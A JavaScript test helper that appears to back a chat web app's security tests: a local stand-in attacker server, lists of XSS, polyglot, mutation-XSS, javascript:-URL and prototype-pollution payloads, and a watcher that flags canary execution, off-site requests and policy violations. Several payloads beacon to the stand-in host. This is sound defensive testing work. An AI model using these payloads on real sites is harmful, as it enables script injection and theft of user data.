// What a hostile stranger may type, and a watch that notices when anything of it
// works: a script that runs, a request that leaves, a window, a broken policy.
import http from 'node:http';

// A server of the stranger's, to which nothing may ever go.
export async function lair() {
  const hits = [];
  const server = http.createServer((req, res) => { hits.push(req.url); res.end(); });
  await new Promise((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  return { hits, url: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

// `__pwned` is the canary: no page of ours has it.
const js = (evil) => `top.__pwned=1;new Image().src='${evil}/hit'`;

export const names = [
  '<img src=x onerror=top.__pwned=1>', '<svg onload=top.__pwned=1>', '</title><script>__pwned=1</script>',
  '"\'><b onmouseover=__pwned=1 x="', '\u05d0\u05d1<b onfocus=__pwned=1>', '{{constructor}}${__pwned=1}',
];

export const tags = ['<svg onload=__pwned=1>', '"onfocus=__pwned=1 "', '__proto__', 'constructor'];

export const messages = (evil) => {
  const run = js(evil);
  return [
    `<script>${run}</script>`, `<img src=x onerror="${run}">`, `<svg onload="${run}">`, `<svg><script>${run}</script></svg>`,
    `"><svg/onload=top.__pwned=1>`, `'-(${run})-'`, `</textarea><script>${run}</script>`, `<body onload="${run}">`,
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=top.__pwned=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=top.__pwned=1//>\\x3e`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.__pwned=1&gt;">`,
    '<noscript><p title="</noscript><img src=x onerror=top.__pwned=1>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__pwned=1>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>', '<iframe src="javascript:parent.__pwned=1"></iframe>',
    '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>', `<embed src="${evil}/x.swf">`, `<base href="${evil}/">`,
    `<meta http-equiv="refresh" content="0;url=${evil}/">`, `<link rel="stylesheet" href="${evil}/x.css">`, `<style>@import '${evil}/x.css';</style>`,
    `<form action="${evil}/"><input autofocus onfocus="${run}"></form>`, `<a href="javascript:${run}">x</a>`, `<details open ontoggle="${run}">`,
    `<video><source onerror="${run}"></video>`, `<img srcset="${evil}/a 1x">`, `<div style="background:url(${evil}/b)">`,
    `${evil}/"onmouseover="${run}`, `${evil}/<img src=x onerror=top.__pwned=1>`, 'http://javascript:top.__pwned=1@x/', `javascript:${run}`,
    'data:text/html,<script>parent.__pwned=1</script>', `[em_1]<img src=x onerror=top.__pwned=1>[em_99][em_0]`, `{{constructor.constructor("${run}")()}}`,
    '__proto__', 'constructor', '&lt;script&gt;top.__pwned=1&lt;/script&gt;', '+ADw-script+AD4-top.__pwned=1+ADw-/script+AD4-',
    '\u2028<script>top.__pwned=1</script>', ']]><script>top.__pwned=1</script>', '<!--<img src="--><img src=x onerror=top.__pwned=1//">',
  ];
};

export const links = ['javascript:top.__pwned=1', 'jAvA%0ascript:top.__pwned=1', '%01javascript:top.__pwned=1', 'data:text/html,<script>top.__pwned=1</script>',
  'vbscript:x', 'https://a@b/<img src=x onerror=top.__pwned=1>', 'https://x/"onfocus="top.__pwned=1', '//x', 'blob:x', '%E0%A4%A', ''];

// All that our own pages ask for.
const OURS = new RegExp(`^/(?:$|(?:js|css|img|lang)/[\\w./-]+$|(?:index|link)\\.html$|favicon\\.ico$|plain\\.(?:js|css)$|plain/|api/(?:${
  ['session', 'session/end', 'next', 'back', 'poll', 'send', 'typing', 'seen', 'receipts', 'retract', 'leave', 'block', 'stats', 'image',
    'image/[\\w-]{43}'].join('|')})$)`);

// Everything that one window does. offences() is empty as long as all is well.
export class Watch {
  constructor(context, base, lairs) {
    Object.assign(this, { context, base, lairs, found: [] });
    context.on('request', (request) => this.request(request.url()));
    context.on('page', (page) => this.page(page));
    for (const page of context.pages()) this.page(page);
  }

  page(page) {
    page.on('dialog', (dialog) => { this.found.push(`a dialog: ${dialog.message()}`); dialog.dismiss().catch(() => {}); });
    page.on('pageerror', (error) => this.found.push(`an error: ${error.message}`));
    page.on('console', (message) => {
      // To a picture in a tab of its own Chromium adds styles, which the policy refuses.
      if (/Content Security Policy|Refused to|violates/.test(message.text()) && !/\/api\/image\//.test(page.url())) this.found.push(message.text());
    });
  }

  request(address) {
    if (/^(blob|about|data:image\/|chrome)/.test(address)) return;
    const url = new URL(address);
    if (url.origin !== this.base || !OURS.test(url.pathname)) this.found.push(`a request: ${address}`);
  }

  async offences() {
    const found = [...this.found, ...this.lairs.hits.map((url) => `reached ${url}`)];
    for (const page of this.context.pages()) {
      for (const frame of page.frames()) {
        const canary = await Promise.race([ // a frame on its way elsewhere may never answer
          frame.evaluate(() => [window.__pwned, {}.polluted].find((x) => x !== undefined)).catch(() => undefined),
          new Promise((resolve) => { setTimeout(resolve, 2000); }),
        ]);
        if (canary !== undefined) found.push(`a script has run in ${frame.url()}`);
      }
    }
    return found;
  }
}
